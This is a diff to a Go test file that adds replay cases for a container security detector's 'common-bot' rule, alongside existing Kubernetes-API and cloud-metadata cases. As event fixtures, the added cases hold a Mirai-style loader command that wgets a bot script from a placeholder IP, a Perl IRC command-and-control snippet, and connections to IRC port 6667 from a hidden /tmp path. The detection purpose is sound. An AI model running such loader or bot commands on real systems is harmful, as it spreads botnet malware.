@@ -50,6 +50,16 @@ func replayCases() []replayCase {
 		}, "k8s-api-from-container", nil},
 		{"no k8s-api-from-container: API without token", []*api.Event{connectEv("/usr/bin/curl", "10.96.0.1", 443, 0, ctr)}, "", []string{"k8s-api-from-container"}},
 
+		{"common-bot: a program connects to IRC", []*api.Event{connectEv("/tmp/.x/kworker", "198.51.100.4", 6667, 0, ctr)}, "common-bot", nil},
+		{"common-bot: Perl IRC bot", []*api.Event{execEv("/usr/bin/perl", []string{"perl", "-e", "print $s \"NICK b0t\\r\\nJOIN #cmd\\r\\n\""}, ctr)}, "common-bot", nil},
+		{"common-bot: Mirai loader", []*api.Event{execEv(sh, []string{"sh", "-c", "cd /tmp || cd /var/run || cd /mnt; wget http://198.51.100.4/bins.sh"}, ctr)}, "common-bot", nil},
+		{"common-bot: tsunami", []*api.Event{execEv("/tmp/tsunami", []string{"tsunami"}, ctr)}, "common-bot", nil},
+		{"no common-bot: irssi on IRC, curl on 7001, IRC on loopback", []*api.Event{
+			connectEv("/usr/bin/irssi", "198.51.100.4", 6697, 0, ctr),
+			connectEv("/usr/bin/curl", "198.51.100.4", 7001, 0, ctr),
+			connectEv("/usr/bin/python3", "127.0.0.1", 6667, 0, ctr),
+			execEv(sh, []string{"sh", "-c", "cd /tmp && make"}, ctr),
+		}, "", []string{"common-bot"}},
 		{"cloud-metadata", []*api.Event{connectEv("/usr/bin/curl", "169.254.169.254", 80, 0, ctr)}, "cloud-metadata", nil},
 		{"no cloud-metadata on host", []*api.Event{connectEv("/usr/bin/cloud-init", "169.254.169.254", 80, 0)}, "", []string{"cloud-metadata"}},
 
